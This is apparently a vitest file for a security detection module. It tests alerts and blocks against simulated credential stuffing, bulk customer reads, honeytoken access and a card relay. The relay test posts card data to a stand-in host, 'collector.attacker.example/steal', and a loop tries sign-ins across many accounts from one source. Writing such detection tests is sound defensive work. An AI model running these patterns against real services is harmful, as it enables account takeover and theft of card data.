import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authApp, SAME_ORIGIN, STRONG, type AuthTest, customer, uniqueEmail } from '../identity/helpers.ts';
import { staffSession } from '../../src/modules/consent/test-support/staff-session.ts';
import { TEST_DIALECT } from '../support/store.ts';
import { alertsOf, auditActions, auditHolds, codeOf, from, rulesFile, STUFFING_SOURCE } from './helpers.ts';

/**
 * The attacks detection is for, each tried for real through the HTTP API: a scripted
 * credential-stuffing run (one alert, the source blocked), bulk reads by an API key and by a staff
 * member (the bulk alert; the key suspended where the rule says so), a honeytoken read (one
 * critical alert, however often), and a card relay to a target off the allow-list. Each alert and
 * action is in the audit log, which holds no client address.
 */
let t: AuthTest;
let security: string;

const signInFrom = (address: string, email: string, password = 'not the right password at all') =>
  t.app.inject({ method: 'POST', url: '/v1/auth/signin', headers: { ...SAME_ORIGIN, ...from(address) }, payload: { email, password } });

beforeAll(async () => {
  const rules = rulesFile(`
rules:
  bulk_read: { threshold: 6, min_count: 6, responses: [alert, lock_apikey] }
`);
  t = await authApp({ CUSTOS_DETECTION_RULES: rules });
  security = await t.bearer(['security'], 'siem');
});
afterAll(async () => t?.close());

describe(`credential stuffing (${TEST_DIALECT})`, () => {
  it('a run over 25 accounts from one source raises one alert and blocks the source; other sources still get in', async () => {
    const known = await customer(t);
    const emails = [known, ...Array.from({ length: 24 }, () => uniqueEmail('victim'))];
    const answers: (string | undefined)[] = [];
    for (const email of emails) answers.push(codeOf(await signInFrom(STUFFING_SOURCE, email)));
    await t.runtime.detection.settle();
    // The block lands while the run goes on (detection works between requests): never before the 20th account.
    expect(answers.slice(0, 20)).toEqual(Array(20).fill('IDENTITY_SIGNIN_FAILED'));
    expect(answers.slice(20).every((c) => c === 'IDENTITY_SIGNIN_FAILED' || c === 'DETECTION_SOURCE_BLOCKED')).toBe(true);

    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'credential_stuffing');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      severity: 'high',
      status: 'open',
      source: STUFFING_SOURCE,
      actor: { kind: 'source', id: STUFFING_SOURCE },
      actions: ['block_source'],
      detail: { trigger: 'accounts_per_source' },
    });
    expect(alerts[0]!.count).toBeGreaterThanOrEqual(20);

    const blocked = await signInFrom(STUFFING_SOURCE, known, STRONG);
    expect(blocked.statusCode).toBe(403);
    expect(codeOf(blocked)).toBe('DETECTION_SOURCE_BLOCKED');
    expect(blocked.json()).toMatchObject({ error: { retry_after_seconds: 3600 } });
    expect((await signInFrom('203.0.113.50', known, STRONG)).statusCode).toBe(200);

    const audited = await auditActions(t, 'security.');
    expect(audited.filter((e) => e.action === 'security.alert_raised' && e.record_id === alerts[0]!.id)).toHaveLength(1);
    expect(audited.filter((e) => e.action === 'security.source_blocked' && e.record_id === alerts[0]!.id)).toHaveLength(1);
    expect(await auditHolds(t, STUFFING_SOURCE)).toBe(false);
  });

  it('stays one alert while the run goes on from the same source', async () => {
    await t.runtime.detection.unblock(STUFFING_SOURCE, 'cli');
    for (let i = 0; i < 5; i++) await signInFrom(STUFFING_SOURCE, uniqueEmail('more'));
    expect((await alertsOf(t, security)).filter((a) => a.rule === 'credential_stuffing')).toHaveLength(1);
  });
});

describe(`bulk reads (${TEST_DIALECT})`, () => {
  it('an API key reading more customers than the rule allows raises the bulk alert and is suspended; resume restores it', async () => {
    const writer = await t.bearer(['account']);
    const ids: string[] = [];
    for (let i = 0; i < 8; i++) {
      const res = await t.app.inject({ method: 'POST', url: '/v1/customers', headers: { authorization: writer }, payload: { email: uniqueEmail('bulk'), name: 'Bulk Read' } });
      ids.push(res.json<{ id: string }>().id);
    }
    const { key, info } = await t.runtime.apiKeys.create({ name: 'export-script', purposes: ['support'] });
    const reader = `Bearer ${key.reveal()}`;
    for (const id of ids) {
      const res = await t.app.inject({ method: 'GET', url: `/v1/customers/${id}`, headers: { authorization: reader, 'custos-purpose': 'support', ...from('192.0.2.44') } });
      expect(res.statusCode).toBe(200);
    }
    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'bulk_read');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ actor: { kind: 'apikey', id: info.id, name: 'export-script' }, actions: ['lock_apikey'], source: '192.0.2.44' });
    expect(alerts[0]!.count).toBeGreaterThanOrEqual(7);

    const refused = await t.app.inject({ method: 'GET', url: `/v1/customers/${ids[0]}`, headers: { authorization: reader, 'custos-purpose': 'support' } });
    expect(refused.statusCode).toBe(403);
    expect(codeOf(refused)).toBe('APIKEY_SUSPENDED');
    expect((await auditActions(t, 'security.apikey_suspended')).map((e) => e.record_id)).toEqual([info.id]);

    await t.runtime.apiKeys.resume(info.id);
    const again = await t.app.inject({ method: 'GET', url: `/v1/customers/${ids[0]}`, headers: { authorization: reader, 'custos-purpose': 'support' } });
    expect(again.statusCode).toBe(200);
  });

  it('a staff member reading more customers than the rule allows raises the bulk alert naming the member', async () => {
    const writer = await t.bearer(['account']);
    const ids: string[] = [];
    for (let i = 0; i < 8; i++) {
      const res = await t.app.inject({ method: 'POST', url: '/v1/customers', headers: { authorization: writer }, payload: { email: uniqueEmail('staffread'), name: 'Staff Read' } });
      ids.push(res.json<{ id: string }>().id);
    }
    const jar = await staffSession(t, 'support_agent');
    for (const id of ids) {
      const res = await t.app.inject({ method: 'GET', url: `/v1/customers/${id}`, headers: { ...jar.header(), 'custos-purpose': 'support' } });
      expect(res.statusCode, res.body).toBe(200);
    }
    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'bulk_read' && a.actor?.kind === 'staff');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.actor!.id).toMatch(/^stf_/);
    // lock_apikey does not fit a staff member: nothing was locked.
    expect(alerts[0]!.actions).toEqual([]);
  });
});

describe(`honeytokens (${TEST_DIALECT})`, () => {
  it('planting raises nothing; a read of a decoy customer raises one critical alert however often it is read', async () => {
    const planted = await t.runtime.detection.honeytokens.plant({ customers: 2, cards: 1, emailDomain: 'shop.example' });
    expect((await alertsOf(t, security)).filter((a) => a.rule === 'honeytoken')).toEqual([]);
    const { key, info } = await t.runtime.apiKeys.create({ name: 'crm', purposes: ['support'] });
    for (let i = 0; i < 3; i++) {
      const res = await t.app.inject({ method: 'GET', url: `/v1/customers/${planted.customers[0]!.id}`, headers: { authorization: `Bearer ${key.reveal()}`, 'custos-purpose': 'support' } });
      expect(res.statusCode).toBe(200);
    }
    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'honeytoken');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      severity: 'critical',
      actor: { kind: 'apikey', id: info.id, name: 'crm' },
      detail: { honeytoken_kind: 'customer', honeytoken: planted.customers[0]!.id },
      count: 3,
    });
  });

  it('any use of the decoy API key raises a critical alert, and it releases nothing', async () => {
    const planted = await t.runtime.detection.honeytokens.plant({ customers: 1, cards: 0, emailDomain: 'shop.example' });
    const res = await t.app.inject({ method: 'GET', url: `/v1/customers/${planted.customers[0]!.id}`, headers: { authorization: `Bearer ${planted.api_key.secret}`, 'custos-purpose': 'support' } });
    expect(res.statusCode).toBe(403);
    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'honeytoken' && a.actor?.id === planted.api_key.id);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ severity: 'critical', actor: { kind: 'apikey', name: planted.api_key.name }, detail: { honeytoken_kind: 'apikey' } });
  });
});

describe(`card relay (${TEST_DIALECT})`, () => {
  it('a relay call to a target off the allow-list is refused and raises its alert naming the key', async () => {
    const { key, info } = await t.runtime.apiKeys.create({ name: 'checkout', purposes: ['payments'] });
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/relay',
      headers: { authorization: `Bearer ${key.reveal()}`, 'custos-purpose': 'payments', ...from('192.0.2.80') },
      payload: { url: 'https://collector.attacker.example/steal', method: 'POST', body: { card: 'nothing' } },
    });
    expect(codeOf(res)).toBe('CARDS_RELAY_TARGET_NOT_ALLOWED');
    const alerts = (await alertsOf(t, security)).filter((a) => a.rule === 'relay_off_allowlist');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ actor: { kind: 'apikey', id: info.id, name: 'checkout' }, source: '192.0.2.80', detail: { target: 'https://collector.attacker.example' } });
  });
});
